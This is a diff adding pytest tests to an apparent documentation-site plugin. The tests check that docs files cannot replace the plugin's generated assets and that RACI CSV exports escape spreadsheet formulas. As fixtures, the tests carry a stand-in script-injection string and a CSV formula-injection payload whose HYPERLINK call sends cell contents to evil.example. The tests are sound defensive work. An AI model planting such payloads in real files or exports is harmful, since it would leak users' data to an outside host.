@@ -6,6 +6,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
 from click.testing import CliRunner
 
 from conftest import MINI_HUB, run_mkdocs
@@ -100,3 +101,74 @@ def test_a_loop_of_folders_in_the_docs_folder_is_one_error_not_a_hang(hub, tmp_p
             "that holds it (a loop)") in output
     built = run_mkdocs(root, tmp_path / "site")
     assert built.returncode == 1 and "content/a/loop" in built.stderr
+
+
+# -- the docs folder never replaces what the plugin makes ------------------------------------
+
+@pytest.mark.parametrize("path, what", [
+    ("content/assets/playbook/playbook.js", "the plugin's own file assets/playbook/playbook.js"),
+    ("content/assets/playbook/roles.json", "the plugin's own file assets/playbook/roles.json"),
+    ("content/raci.csv", "the plugin's own file raci.csv"),
+    ("content/playbook.json", "the plugin's own file playbook.json"),
+    ("content/pagefind/pagefind.js", "the plugin's own folder pagefind/"),
+    ("content/roles/rep.md", "the generated page roles/rep.md (made from playbook/roles/rep.yml)"),
+    ("content/roles/rep/index.md", "the generated page roles/rep.md (made from "
+                                   "playbook/roles/rep.yml)"),
+    ("content/onboarding/rep.md", "the generated page onboarding/rep.md (made from the role rep)"),
+    ("content/roles/index.md", "the generated page roles/index.md"),
+])
+def test_a_file_of_the_docs_folder_at_a_path_of_ours_is_a_located_error(hub, tmp_path, path,
+                                                                         what):
+    root = hub({path: "window.__xss = 1; // or a page of its own\n"})
+    code, output = validate(root)
+    shown = path.removesuffix("/pagefind.js") if "pagefind" in path else path
+    assert code == 1 and f"{shown}: error: is {'' if 'folder' in what else 'at the path of '}" \
+        f"{what}" in output, output
+    built = run_mkdocs(root, tmp_path / "site")
+    assert built.returncode == 1 and shown in built.stderr
+    assert not (tmp_path / "site").exists()
+
+
+def test_a_translation_folder_cannot_replace_ours_either(hub):
+    root = hub({"playbook/hub.yml": "name: Mini hub\nlanguages: [en, ur]\n",
+                "content/ur/assets/playbook/playbook.js": "window.__xss = 1;\n"})
+    code, output = validate(root)
+    assert code == 1 and "content/ur/assets/playbook/playbook.js: error" in output
+
+
+def test_an_entity_with_the_id_index_is_refused(hub):
+    root = hub({"playbook/metrics/index.yml": "title: Index\ndefinition: D.\n"})
+    code, output = validate(root)
+    assert code == 1
+    assert ("playbook/metrics/index.yml: error: the id 'index' is the path of the metrics "
+            "index page (metrics/index.md): rename the file") in output
+
+
+# -- what a manager opens in a spreadsheet ---------------------------------------------------
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(hub, tmp_path):
+    import csv
+
+    root = hub({
+        "playbook/responsibilities/closing.yml": """
+            title: '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+            accountable: manager
+            responsible: [rep]
+        """,
+        "playbook/responsibilities/plus.yml": "title: '+1+1'\naccountable: manager\nresponsible: [rep]\n",
+        "playbook/responsibilities/minus.yml": "title: '-2+3'\naccountable: manager\nresponsible: [rep]\n",
+        "playbook/responsibilities/at.yml": "title: '@SUM(1)'\naccountable: rep\nresponsible: [manager]\n",
+        "playbook/responsibilities/tab.yml": "title: \"\\t=1\"\naccountable: rep\nresponsible: [manager]\n",
+        "playbook/roles/manager.yml": "title: '=1+2'\nsummary: S.\nteam: sales\n",
+    })
+    result = CliRunner().invoke(main, ["export", str(root), "--format", "raci-csv", "-o",
+                                       str(tmp_path / "raci.csv")])
+    assert result.exit_code == 0, result.output
+    assert run_mkdocs(root, tmp_path / "site").returncode == 0
+    for path in (tmp_path / "raci.csv", tmp_path / "site/raci.csv"):
+        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+        cells = {c for row in rows for c in row if c}
+        assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")" in cells
+        assert {"'+1+1", "'-2+3", "'@SUM(1)", "'\t=1", "'=1+2"} <= cells, cells
+        assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
+        assert {"Responsibility", "Sales rep", "A", "R"} <= cells  # the rest as it was
